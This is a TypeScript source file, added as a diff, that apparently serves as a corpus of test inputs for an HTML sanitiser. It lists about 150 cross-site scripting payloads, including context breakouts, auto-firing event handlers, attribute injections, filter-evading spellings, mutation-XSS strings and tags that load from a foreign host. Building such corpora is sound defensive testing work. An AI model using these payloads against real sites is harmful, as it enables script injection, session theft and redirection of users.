@@ -1,0 +1,167 @@
+/** Texts that try to become elements, attributes or another document. */
+import { FOREIGN, HIT } from "./signs.ts";
+
+/** What would run if it were read as markup. */
+const CORES = [
+  `<script>${HIT}</script>`,
+  `<img src=x onerror=${HIT}>`,
+  `<svg onload=${HIT}>`,
+  `<iframe src=//${FOREIGN}></iframe>`,
+];
+
+/** What would have to be closed first, by where a text may stand. */
+const CLOSINGS = [
+  `">`,
+  `'>`,
+  "`>",
+  ">",
+  "</title>",
+  "</style>",
+  "</script>",
+  "</textarea>",
+  "</noscript>",
+  "</template>",
+  "</select>",
+  "</svg>",
+  "</math>",
+  "</form>",
+  "</button></fieldset>",
+  "</p></main></div>",
+  "-->",
+  "]]>",
+  "?>",
+];
+
+const BREAKOUTS = CLOSINGS.flatMap((closing) => CORES.map((core) => closing + core));
+
+/** Elements that run something by themselves, with the event on which they would. */
+const SELF_STARTERS: readonly [element: string, event: string][] = [
+  ["audio src=x", "onerror"],
+  ["body", "onload"],
+  ["body", "onpageshow"],
+  ["details open", "ontoggle"],
+  ["embed src=x", "onload"],
+  ["form><button autofocus", "onfocus"],
+  ["iframe srcdoc=x", "onload"],
+  ["image src=x", "onerror"],
+  ["input autofocus", "onfocus"],
+  ["input type=image src=x", "onerror"],
+  ["keygen autofocus", "onfocus"],
+  ["link rel=stylesheet href=x", "onerror"],
+  ["marquee", "onstart"],
+  ["object data=x", "onerror"],
+  ["select autofocus", "onfocus"],
+  ["style", "onload"],
+  ["svg><animate attributeName=x dur=1s", "onbegin"],
+  ["svg><set attributeName=x", "onbegin"],
+  ["textarea autofocus", "onfocus"],
+  ["video><source", "onerror"],
+  ["video autoplay src=x", "onloadstart"],
+  ["xss tabindex=1 autofocus", "onfocus"],
+  ["xss style='animation:x 1s'", "onanimationstart"],
+  ["xss contenteditable autofocus", "onfocusin"],
+  ["div popover id=p><button popovertarget=p", "onbeforetoggle"],
+];
+const EVENTS = SELF_STARTERS.map(([element, event]) => `<${element} ${event}=${HIT}>`);
+
+/** Attributes for those texts that stand in one. */
+const ATTRIBUTES = [
+  `" onmouseover="${HIT}`,
+  `' onmouseover='${HIT}`,
+  `" autofocus onfocus="${HIT}" x="`,
+  `' autofocus onfocus='${HIT}' x='`,
+  `x onfocus=${HIT} autofocus`,
+  `" style="animation:x 1s" onanimationend="${HIT}`,
+  `" formaction="javascript:${HIT}`,
+  `" href="javascript:${HIT}" x="`,
+  `" src="//${FOREIGN}/a" srcset="//${FOREIGN}/b 2x`,
+  `" ping="//${FOREIGN}/ping" x="`,
+  `" http-equiv="refresh" content="0;url=//${FOREIGN}`,
+  `" data-taken data-action="javascript:${HIT}`,
+  `" type="hidden" name="_token" value="forged`,
+  `"/onerror=${HIT}//`,
+  `"\tonfocus\t=\t"${HIT}"\tautofocus\t"`,
+  `"\nonfocus\n=\n"${HIT}"\nautofocus\n"`,
+  `&quot; onfocus=&quot;${HIT}&quot; autofocus=&quot;`,
+  `&#34;&#62;&#60;script&#62;${HIT}&#60;/script&#62;`,
+  `&#x22;&#x3e;&#x3c;svg onload=${HIT}&#x3e;`,
+  `&quot&gt&lt;img src=x onerror=${HIT}&gt;`,
+];
+
+/** Spellings that fool filters, and none of ours. */
+const SPELLINGS = [
+  `<ScRiPt>${HIT}</sCrIpT>`,
+  `<script/x>${HIT}</script/x>`,
+  `<script\n>${HIT}</script\n>`,
+  `<script src=//${FOREIGN}/x.js></script>`,
+  `<script src=data:text/javascript,${HIT}></script>`,
+  `<script type=module>import "//${FOREIGN}/x.js"</script>`,
+  `<script>${HIT}`,
+  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
+  `<<script>${HIT}//<</script>`,
+  `<img/src=x/onerror=${HIT}>`,
+  `<img src=x onerror=${HIT}//`,
+  `<img src="x\`\`onerror=${HIT}">`,
+  `<img """><script>${HIT}</script>">`,
+  `<svg/onload=${HIT}//`,
+  `<svg><script>${HIT}</script></svg>`,
+  `<svg><script href=data:,${HIT} />`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${HIT}'/>#x">`,
+  `<svg><a xlink:href="javascript:${HIT}"><text x=20 y=20>x</text></a>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${HIT}</script>">`,
+  `<math href="javascript:${HIT}">x</math>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
+  `<object data="data:text/html,<script>parent.${HIT}</script>">`,
+  `<embed src="javascript:${HIT}">`,
+  `<iframe srcdoc="&lt;script&gt;parent.${HIT}&lt;/script&gt;"></iframe>`,
+  `<base href="//${FOREIGN}/">`,
+  `<meta http-equiv=refresh content="0;url=https://${FOREIGN}/">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
+  `<link rel=stylesheet href=//${FOREIGN}/x.css>`,
+  `<link rel=prefetch href=//${FOREIGN}/x>`,
+  `<link rel=preload as=script href=//${FOREIGN}/x.js>`,
+  `<form action=//${FOREIGN}/><button>x</button></form>`,
+  `<a href=//${FOREIGN}/ ping=//${FOREIGN}/p>x</a>`,
+  `<img src=//${FOREIGN}/pixel.gif>`,
+  `<table background=//${FOREIGN}/b.gif>`,
+  `<video poster=//${FOREIGN}/p.gif>`,
+  `<portal src=//${FOREIGN}/>`,
+  `<!doctype html><html onload=${HIT}>`,
+  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${HIT}</x:script>`,
+  `<plaintext onload=${HIT}>`,
+  `<xmp><img src=x onerror=${HIT}></xmp>`,
+];
+
+/** Markup that a parser reads otherwise the second time. */
+const MUTATIONS = [
+  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`,
+  `<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=${HIT}>`,
+  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${HIT} src>">`,
+  `<listing>&lt;img onerror=${HIT} src=x&gt;</listing>`,
+  `<textarea></textarea/><img src=x onerror=${HIT}>`,
+  `<template><style></template><img src=x onerror=${HIT}>`,
+  `<select><template><img src=x onerror=${HIT}></template>`,
+  `<p><svg><desc><style></p><img src=x onerror=${HIT}>`,
+  `<!--><img src=x onerror=${HIT}>-->`,
+  `<!--!><img src=x onerror=${HIT}>--!>`,
+  `<![CDATA[<img src=x onerror=${HIT}>]]>`,
+  `<svg><![CDATA[</svg><img src=x onerror=${HIT}>]]>`,
+  `<title>&lt;/title&gt;&lt;img src=x onerror=${HIT}&gt;</title>`,
+  `\`<img src=x onerror=${HIT}>\``,
+  `&lt;img src=x onerror=${HIT}&gt;`,
+  `&amp;lt;img src=x onerror=${HIT}&amp;gt;`,
+  `%3Cimg src=x onerror=${HIT}%3E`,
+  `\\u003cimg src=x onerror=${HIT}\\u003e`,
+  `\\x3cscript\\x3e${HIT}\\x3c/script\\x3e`,
+  `\uff1cscript\uff1e${HIT}\uff1c/script\uff1e`,
+  `+ADw-script+AD4-${HIT}+ADw-/script+AD4-`,
+];
+
+export const MARKUP_TEXTS: readonly string[] = [
+  ...BREAKOUTS,
+  ...EVENTS,
+  ...ATTRIBUTES,
+  ...SPELLINGS,
+  ...MUTATIONS,
+];
